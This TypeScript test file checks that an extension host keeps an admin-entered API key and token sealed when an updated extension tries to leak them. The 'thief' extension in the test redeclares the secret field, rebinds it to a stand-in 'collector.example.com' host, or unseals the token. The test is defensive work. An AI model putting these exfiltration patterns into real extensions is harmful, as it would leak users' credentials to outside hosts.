// Attack: an update takes what an admin entrusted to the version before it: it declares the secret an
// ordinary field, binds it to a host of its own, or no longer has the vendor's token sealed.
// Why it would work: an update that asks for no new capability goes live by itself, and what a field is and
// where it may go is said by the update. What stops it: a value that was entered as a secret stays one, and
// bindings are part of the grants, so that a wider one waits for an admin's yes.

import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, afterEach, before, beforeEach, describe, it } from 'node:test';

import { egressTo } from '../helpers/egress.ts';
import { manifestFor, startTestHost } from '../helpers/host.ts';
import type { TestHost } from '../helpers/host.ts';

const KEY = 'sk_live_Kp7q9Z4mXw2T';
const TOKEN = 'tok_9f8e7d6c5b4a';
const HOSTS = ['api.example.com', 'collector.example.com'];
const SECRETS = {
  key: { hosts: ['api.example.com'], in: ['header'] },
  token: {
    hosts: ['api.example.com'],
    in: ['header'],
    earned: { path: '/token', json: 'access_token' },
  },
};

const code = (config: string): string => `import { defineOther, secret, z } from 'cofferdam/sdk';
export default defineOther({
  config: ${config},
  async execute(url, ctx) {
    const headers = ctx.config.key === undefined ? {} : { authorization: String(ctx.config.key) };
    const said = await ctx.fetch(url, { headers }).then((r) => r.text(), (e) => e.message);
    return JSON.stringify(ctx.config) + said;
  },
} as any);
`;
const ENTERED = code("z.object({ key: secret({ label: 'Key' }) })");

describe('an update after the key of the version before it', { timeout: 60_000 }, () => {
  const collected: string[] = [];
  const server = createServer((request, response) => {
    if (request.headers.host === 'collector.example.com') {
      collected.push(request.rawHeaders.join('\n'));
    }
    response.end(request.url === '/token' ? JSON.stringify({ access_token: TOKEN }) : 'ok');
  });
  let host: TestHost;
  before(() => new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve)));
  after(() => {
    server.closeAllConnections();
    server.close();
  });
  beforeEach(async () => {
    const { port } = server.address() as AddressInfo;
    host = await startTestHost(
      { 'others/thief': { 'extension.ts': ENTERED, 'manifest.json': manifest('1.0.0', SECRETS) } },
      {
        egress: egressTo(port),
      },
    );
    await host.enable('others/thief', { key: KEY });
    await execute('https://api.example.com/');
  });
  afterEach(() => host[Symbol.asyncDispose]());

  async function execute(url: string): Promise<string> {
    const { body } = await host.call('others/thief', 'execute', url);
    const text = JSON.stringify(body);
    for (const value of [KEY, TOKEN]) {
      assert.ok(!text.includes(value), text);
      assert.ok(!collected.join().includes(value));
    }
    return text;
  }

  async function update(name: string, content: string): Promise<void> {
    await host.write('others/thief', name, content);
    await host.request('POST', '/extensions/others/thief/restart');
  }

  it('does not get it by declaring the field an ordinary one', async () => {
    await update('extension.ts', code('z.object({ key: z.string() })'));
    const said = await execute('https://collector.example.com/');
    assert.match(said, /sealed:/);
    assert.match(said, /secret \\+"key\\+"/, 'it is refused, not sent');
  });

  it('does not get it by forgetting the field', async () => {
    await update('extension.ts', code('z.looseObject({})'));
    assert.match(await execute('https://api.example.com/'), /sealed:/);
  });

  for (const [way, secrets] of Object.entries({
    'binding it to its own host': { ...SECRETS, key: { hosts: HOSTS, in: ['header'] } },
    'binding it to another place': {
      ...SECRETS,
      key: { hosts: ['api.example.com'], in: ['header', 'query'] },
    },
    'no longer having the token sealed': { key: SECRETS.key },
    'looking for the token elsewhere': {
      ...SECRETS,
      token: { ...SECRETS.token, earned: { path: '/other', json: 'access_token' } },
    },
  })) {
    it(`does not get it by ${way}: the update waits`, async () => {
      await update('manifest.json', manifest('1.1.0', secrets));
      await execute('https://collector.example.com/');
      await execute('https://api.example.com/token');
      const { body } = await host.request('GET', '/extensions/others/thief/instances/default');
      assert.equal(body.state, 'waiting-for-grant');
      const [field] = way.includes('token') ? ['token'] : ['key'];
      assert.deepEqual(Object.keys(body.missingGrants.secrets), [field]);
      const enabled = await host.enable('others/thief');
      assert.deepEqual(enabled.missingGrants, {}, 'a yes is a yes');
    });
  }

  it('leaves for nowhere where an admin struck it out', async () => {
    const secrets = { key: { hosts: [], in: [] } };
    const view = await host.enable('others/thief', undefined, { secrets });
    assert.deepEqual(view.grants.secrets, { key: { hosts: [], in: [] }, token: SECRETS.token });
    assert.deepEqual(view.missingGrants, {}, 'what was refused is not asked for again');
    assert.match(await execute('https://api.example.com/'), /secret \\+"key\\+" in place/);
  });
});

function manifest(version: string, secrets: object): string {
  const capabilities = { fetch: { hosts: HOSTS } };
  return JSON.stringify(manifestFor('others/thief', { version, capabilities, secrets }));
}
